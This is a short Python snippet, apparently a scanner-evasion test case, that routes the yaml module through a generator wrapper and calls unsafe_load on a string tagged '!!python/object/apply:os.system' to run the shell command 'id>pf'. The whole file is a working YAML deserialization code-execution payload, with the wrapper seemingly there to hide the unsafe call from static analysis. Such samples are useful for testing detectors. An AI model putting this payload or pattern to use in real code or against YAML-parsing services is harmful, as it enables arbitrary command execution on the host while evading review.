def my_y(x):

    def g():
        yield x
    for v in g():
        return v
import yaml
my_y(yaml).unsafe_load("!!python/object/apply:os.system ['id>pf']")
